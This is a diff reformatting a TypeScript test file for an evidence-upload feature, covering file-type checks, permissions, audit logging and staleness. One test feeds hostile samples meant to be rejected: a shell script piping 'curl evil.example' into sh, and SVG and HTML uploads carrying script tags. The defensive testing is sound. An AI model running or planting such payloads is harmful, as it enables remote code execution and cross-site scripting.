@@ -1,6 +1,12 @@
 import { describe, expect, it } from "vitest";
+
 import { addDays } from "@/lib/dates";
-import { submitEvidenceEdit, submitEvidenceRemoval, submitEvidenceRenewal, submitNewEvidence } from "@/lib/item-forms";
+import {
+  submitEvidenceEdit,
+  submitEvidenceRemoval,
+  submitEvidenceRenewal,
+  submitNewEvidence,
+} from "@/lib/item-forms";
 import { saveAnswer } from "@/lib/queries/answers";
 import { listAuditLog } from "@/lib/queries/audit";
 import { countStaleEvidence } from "@/lib/queries/evidence";
@@ -13,7 +19,10 @@ const getDb = useTestDatabase();
 
 const TODAY = "2026-11-27";
 const ITEM = "logs.delivery-reliability";
-const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABAQMAAAAl21bKAAAAA1BMVEX/AAAZ4gk3AAAACklEQVQI12NgAAAAAgAB4iG8MwAAAABJRU5ErkJggg==", "base64");
+const PNG = Buffer.from(
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABAQMAAAAl21bKAAAAA1BMVEX/AAAZ4gk3AAAACklEQVQI12NgAAAAAgAB4iG8MwAAAABJRU5ErkJggg==",
+  "base64",
+);
 const PDF = Buffer.from("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
 
 async function answeredService() {
@@ -35,22 +44,60 @@ function form(entries: Record<string, string | Blob>, fileName = "evidence.png")
   return data;
 }
 
-const evidenceOf = (serviceId: string) => getDb().evidence.findMany({ where: { answer: { serviceId } }, orderBy: { createdAt: "asc" }, include: { file: true } });
+const evidenceOf = (serviceId: string) =>
+  getDb().evidence.findMany({
+    where: { answer: { serviceId } },
+    orderBy: { createdAt: "asc" },
+    include: { file: true },
+  });
 
 describe("evidence", () => {
   it("takes a link, a Markdown note and a screenshot, each with who added it and when it was checked", async () => {
     const { service, member } = await answeredService();
     const target = { serviceId: service.id, itemKey: ITEM };
     const context = { actor: member, today: TODAY };
-    expect(await submitNewEvidence(form({ ...target, kind: "LINK", url: "https://grafana.example/d/logs", title: "Log delivery" }), context)).toMatchObject({ status: "saved" });
-    expect(await submitNewEvidence(form({ ...target, kind: "NOTE", body: "**Checked** the Fluent Bit retry metrics" }), context)).toMatchObject({ status: "saved" });
-    expect(await submitNewEvidence(form({ ...target, kind: "FILE", file: new Blob([PNG], { type: "application/octet-stream" }) }, "delivery graph.png"), context)).toMatchObject({ status: "saved" });
-    expect(await submitNewEvidence(form({ ...target, kind: "FILE", file: new Blob([PDF]) }, "report.bin"), context)).toMatchObject({ status: "saved" });
+    expect(
+      await submitNewEvidence(
+        form({ ...target, kind: "LINK", url: "https://grafana.example/d/logs", title: "Log delivery" }),
+        context,
+      ),
+    ).toMatchObject({ status: "saved" });
+    expect(
+      await submitNewEvidence(
+        form({ ...target, kind: "NOTE", body: "**Checked** the Fluent Bit retry metrics" }),
+        context,
+      ),
+    ).toMatchObject({ status: "saved" });
+    expect(
+      await submitNewEvidence(
+        form(
+          { ...target, kind: "FILE", file: new Blob([PNG], { type: "application/octet-stream" }) },
+          "delivery graph.png",
+        ),
+        context,
+      ),
+    ).toMatchObject({ status: "saved" });
+    expect(
+      await submitNewEvidence(
+        form({ ...target, kind: "FILE", file: new Blob([PDF]) }, "report.bin"),
+        context,
+      ),
+    ).toMatchObject({ status: "saved" });
 
     const stored = await evidenceOf(service.id);
     expect(stored.map((piece) => piece.kind)).toEqual(["LINK", "NOTE", "FILE", "FILE"]);
-    expect(stored.every((piece) => piece.createdById === member.id && piece.checkedById === member.id && piece.checkedOn.toISOString().startsWith(TODAY))).toBe(true);
-    expect(stored[2]).toMatchObject({ title: "delivery graph.png", file: { contentType: "image/png", byteSize: PNG.length } });
+    expect(
+      stored.every(
+        (piece) =>
+          piece.createdById === member.id &&
+          piece.checkedById === member.id &&
+          piece.checkedOn.toISOString().startsWith(TODAY),
+      ),
+    ).toBe(true);
+    expect(stored[2]).toMatchObject({
+      title: "delivery graph.png",
+      file: { contentType: "image/png", byteSize: PNG.length },
+    });
     expect(Buffer.from(stored[2]!.file!.content).equals(PNG)).toBe(true);
     // The type comes from the bytes, and so does the extension offered on download.
     expect(stored[3]).toMatchObject({ title: "report.pdf", file: { contentType: "application/pdf" } });
@@ -64,9 +111,23 @@ describe("evidence", () => {
     const { service, member } = await answeredService();
     const target = { serviceId: service.id, itemKey: ITEM, kind: "FILE" };
     const cases: [string, Blob | string, string][] = [
-      ["script renamed .png", new Blob(["#!/bin/sh\ncurl evil.example | sh\n"]), "validation.evidence.file.unsupported"],
-      ["SVG with script", new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'], { type: "image/svg+xml" }), "validation.evidence.file.unsupported"],
-      ["HTML page", new Blob(["<!doctype html><script>alert(1)</script>"], { type: "image/png" }), "validation.evidence.file.unsupported"],
+      [
+        "script renamed .png",
+        new Blob(["#!/bin/sh\ncurl evil.example | sh\n"]),
+        "validation.evidence.file.unsupported",
+      ],
+      [
+        "SVG with script",
+        new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'], {
+          type: "image/svg+xml",
+        }),
+        "validation.evidence.file.unsupported",
+      ],
+      [
+        "HTML page",
+        new Blob(["<!doctype html><script>alert(1)</script>"], { type: "image/png" }),
+        "validation.evidence.file.unsupported",
+      ],
       ["zero bytes", new Blob([]), "validation.evidence.file.empty"],
       ["truncated PNG", new Blob([PNG.subarray(0, 40)]), "validation.evidence.file.truncated"],
       ["oversize", new Blob([PNG, new Uint8Array(10 * 1024 * 1024)]), "validation.evidence.file.tooLarge"],
@@ -77,7 +138,9 @@ describe("evidence", () => {
       expect(state.fieldErrors?.file?.[0]?.key, name).toBe(key);
     }
     expect(await evidenceOf(service.id)).toEqual([]);
-    expect(await getDb().evidenceFile.count({ where: { evidence: { answer: { serviceId: service.id } } } })).toBe(0);
+    expect(
+      await getDb().evidenceFile.count({ where: { evidence: { answer: { serviceId: service.id } } } }),
+    ).toBe(0);
   });
 
   it("refuses an upload that breaks off halfway and stores nothing", async () => {
@@ -102,30 +165,58 @@ describe("evidence", () => {
 
   it("needs an answer first, and someone of the owning team", async () => {
     const { service, member } = await answeredService();
-    const unanswered = { serviceId: service.id, itemKey: "logs.log-to-metric-backlog", kind: "LINK", url: "https://wiki.example/logs" };
-    expect(await submitNewEvidence(form(unanswered), { actor: member, today: TODAY })).toMatchObject({ formError: { key: "evidence.answerFirst" } });
+    const unanswered = {
+      serviceId: service.id,
+      itemKey: "logs.log-to-metric-backlog",
+      kind: "LINK",
+      url: "https://wiki.example/logs",
+    };
+    expect(await submitNewEvidence(form(unanswered), { actor: member, today: TODAY })).toMatchObject({
+      formError: { key: "evidence.answerFirst" },
+    });
     const outsider = await createTestUser("MEMBER", [(await createTestTeam()).id]);
-    expect(await submitNewEvidence(form({ ...unanswered, itemKey: ITEM }), { actor: outsider, today: TODAY })).toMatchObject({ formError: { key: "errors.forbidden" } });
-    expect(await submitNewEvidence(form({ ...unanswered, itemKey: ITEM }), { actor: null, today: TODAY })).toMatchObject({ signedOut: true });
+    expect(
+      await submitNewEvidence(form({ ...unanswered, itemKey: ITEM }), { actor: outsider, today: TODAY }),
+    ).toMatchObject({ formError: { key: "errors.forbidden" } });
+    expect(
+      await submitNewEvidence(form({ ...unanswered, itemKey: ITEM }), { actor: null, today: TODAY }),
+    ).toMatchObject({ signedOut: true });
     expect(await evidenceOf(service.id)).toEqual([]);
   });
 
   it("records edits and removals in the audit log; a removed file's bytes are gone", async () => {
     const { service, member } = await answeredService();
     const context = { actor: member, today: TODAY };
-    await submitNewEvidence(form({ serviceId: service.id, itemKey: ITEM, kind: "NOTE", body: "first words" }), context);
-    await submitNewEvidence(form({ serviceId: service.id, itemKey: ITEM, kind: "FILE", file: new Blob([PNG]) }), context);
+    await submitNewEvidence(
+      form({ serviceId: service.id, itemKey: ITEM, kind: "NOTE", body: "first words" }),
+      context,
+    );
+    await submitNewEvidence(
+      form({ serviceId: service.id, itemKey: ITEM, kind: "FILE", file: new Blob([PNG]) }),
+      context,
+    );
     const [note, file] = await evidenceOf(service.id);
 
-    expect(await submitEvidenceEdit(form({ evidenceId: note!.id, kind: "NOTE", body: "better words" }), context)).toMatchObject({ status: "saved" });
-    expect(await submitEvidenceRemoval(form({ evidenceId: file!.id }), context)).toMatchObject({ status: "saved" });
+    expect(
+      await submitEvidenceEdit(form({ evidenceId: note!.id, kind: "NOTE", body: "better words" }), context),
+    ).toMatchObject({ status: "saved" });
+    expect(await submitEvidenceRemoval(form({ evidenceId: file!.id }), context)).toMatchObject({
+      status: "saved",
+    });
     expect(await getDb().evidenceFile.findUnique({ where: { evidenceId: file!.id } })).toBeNull();
     expect((await evidenceOf(service.id)).map((piece) => piece.body)).toEqual(["better words"]);
 
     const log = await listAuditLog({ serviceId: service.id });
-    expect(log.find((entry) => entry.kind === "evidence.updated")).toMatchObject({ before: { body: "first words" }, after: { body: "better words" } });
-    expect(log.find((entry) => entry.kind === "evidence.removed")).toMatchObject({ before: { kind: "FILE", contentType: "image/png" } });
-    expect(await submitEvidenceRemoval(form({ evidenceId: file!.id }), context)).toMatchObject({ formError: { key: "validation.evidence.unknown" } });
+    expect(log.find((entry) => entry.kind === "evidence.updated")).toMatchObject({
+      before: { body: "first words" },
+      after: { body: "better words" },
+    });
+    expect(log.find((entry) => entry.kind === "evidence.removed")).toMatchObject({
+      before: { kind: "FILE", contentType: "image/png" },
+    });
+    expect(await submitEvidenceRemoval(form({ evidenceId: file!.id }), context)).toMatchObject({
+      formError: { key: "validation.evidence.unknown" },
+    });
   });
 });
 
@@ -133,14 +224,22 @@ describe("freshness", () => {
   it("goes stale after the configured days and is renewed by marking it still valid", async () => {
     const { service, member } = await answeredService();
     const checkedOn = "2026-01-01";
-    await submitNewEvidence(form({ serviceId: service.id, itemKey: ITEM, kind: "LINK", url: "https://wiki.example/old" }), { actor: member, today: checkedOn });
+    await submitNewEvidence(
+      form({ serviceId: service.id, itemKey: ITEM, kind: "LINK", url: "https://wiki.example/old" }),
+      { actor: member, today: checkedOn },
+    );
     const [piece] = await evidenceOf(service.id);
 
-    const staleCount = async (today: string) => (await countStaleEvidence({ serviceIds: [service.id], before: staleBefore(today, 90) })).get(service.id) ?? 0;
+    const staleCount = async (today: string) =>
+      (await countStaleEvidence({ serviceIds: [service.id], before: staleBefore(today, 90) })).get(
+        service.id,
+      ) ?? 0;
     expect(await staleCount(addDays(checkedOn, 89))).toBe(0);
     expect(await staleCount(addDays(checkedOn, 90))).toBe(1);
 
-    expect(await submitEvidenceRenewal(form({ evidenceId: piece!.id }), { actor: member, today: TODAY })).toMatchObject({ status: "saved" });
+    expect(
+      await submitEvidenceRenewal(form({ evidenceId: piece!.id }), { actor: member, today: TODAY }),
+    ).toMatchObject({ status: "saved" });
     expect(await staleCount(TODAY)).toBe(0);
     const log = await listAuditLog({ serviceId: service.id, kind: "evidence.renewed" });
     expect(log[0]).toMatchObject({ before: { checkedOn }, after: { checkedOn: TODAY } });
@@ -154,7 +253,8 @@ describe("verification", () => {
     const context = { actor: member, today: TODAY };
     const target = { serviceId: service.id, itemKey: ITEM };
     await submitNewEvidence(form({ ...target, kind: "LINK", url: "https://wiki.example/a" }), context);
-    const review = async () => (await getDb().answer.findFirstOrThrow({ where: { serviceId: service.id } })).review;
+    const review = async () =>
+      (await getDb().answer.findFirstOrThrow({ where: { serviceId: service.id } })).review;
 
     await decideOnAnswer({ ...target, decision: "ACCEPT", comment: "" }, reviewer, { today: TODAY });
     expect(await review()).toBe("VERIFIED");
